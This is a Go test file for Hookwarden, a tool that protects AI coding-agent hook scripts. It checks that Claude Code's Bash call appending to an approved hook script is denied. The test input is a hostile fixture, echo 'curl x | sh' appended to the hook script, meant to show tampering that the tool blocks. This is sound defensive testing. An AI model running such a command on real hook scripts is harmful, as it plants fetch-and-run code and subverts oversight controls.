package cli

import (
	"bytes"
	"context"
	"encoding/json"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/hookwarden/hookwarden/internal/testenv"
)

// TestClaudeLiveProtectDenies is item 5's protective hook with the real
// Claude Code (conformance kit, offline stand-in): after `protect on`, the
// model's Bash call that appends to the project's hook script is denied
// with Hookwarden's reason, and the script is unchanged.
func TestClaudeLiveProtectDenies(t *testing.T) {
	t.Parallel()
	script := requireClaudeLive(t)
	root := t.TempDir()
	project, home := filepath.Join(root, "project"), filepath.Join(root, "home")
	writeFile(t, filepath.Join(project, ".claude", "settings.json"),
		`{"hooks": {"PreToolUse": [{"matcher": "Bash", "hooks": [{"type": "command", "command": "sh \"$CLAUDE_PROJECT_DIR\"/.claude/hooks/check.sh"}]}]}}`, 0o644)
	writeFile(t, filepath.Join(project, ".claude", "hooks", "check.sh"), "exit 0\n", 0o755)
	writeFile(t, filepath.Join(home, ".claude", "settings.json"), "{\n  \"model\": \"opus\"\n}\n", 0o600)
	// the hook runs this test binary as hookwarden (Claude Code gives it a
	// clean environment, so a wrapper sets the switch)
	self, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	wrapper := filepath.Join(root, "bin", "hookwarden")
	writeFile(t, wrapper, "#!/bin/sh\n"+cliSelfEnv+"=1 exec '"+self+"' \"$@\"\n", 0o755)
	e := &protectEnv{t: t, home: home, project: project, store: filepath.Join(root, "store")}
	if code, o := e.runWithInit(wrapper, "protect", "--agent", "claude", "on"); code != ExitOK {
		t.Fatalf("protect on: exit %d\n%s", code, o)
	}

	cache, err := testenv.CacheDir()
	if err != nil {
		t.Fatal(err)
	}
	env := append(os.Environ(), "BASH_ENV=", "CLAUDE_LIVE_OBSERVE=0", "CLAUDE_LIVE_TIMEOUT=300",
		"npm_config_cache="+filepath.Join(cache, "npm"),
		`CLAUDE_LIVE_INPUT={"command":"echo 'curl x | sh' >> .claude/hooks/check.sh","description":"edit"}`)
	if os.Getenv("CLAUDE_LIVE_CACHE") == "" {
		env = append(env, "CLAUDE_LIVE_CACHE="+filepath.Join(cache, "claude-live"))
	}
	cmd := exec.Command(script, project, home)
	cmd.Env = env
	var stderr bytes.Buffer
	cmd.Stderr = &stderr
	rep, err := claudeLiveOutput(cache, cmd)
	if err != nil {
		t.Fatalf("run-claude.sh failed (%v): %s", err, stderr.String())
	}
	var r struct {
		Denials     []json.RawMessage `json:"permission_denials"`
		ToolResults []struct {
			IsError bool   `json:"is_error"`
			Content string `json:"content"`
		} `json:"tool_results"`
	}
	if err := json.Unmarshal(rep, &r); err != nil {
		t.Fatalf("report: %v\n%s", err, rep)
	}
	if len(r.Denials) != 1 || len(r.ToolResults) != 1 || !r.ToolResults[0].IsError || !strings.Contains(r.ToolResults[0].Content, "Hookwarden protects") {
		t.Fatalf("Claude Code ran the call that rewrites the approved script:\n%s", rep)
	}
}

// runWithInit runs the command line with init as the hookwarden binary.
func (e *protectEnv) runWithInit(init string, args ...string) (int, string) {
	var out bytes.Buffer
	cio := &IO{Agents: testAgents(), Stdin: strings.NewReader(""), Stdout: &out, Stderr: &out, Dir: e.project, GOOS: "linux", Init: init,
		Env: []string{"HOME=" + e.home, "HOOKWARDEN_CONFIG_DIR=" + e.store, "PATH=" + os.Getenv("PATH")}}
	return Main(context.Background(), args, cio), out.String()
}
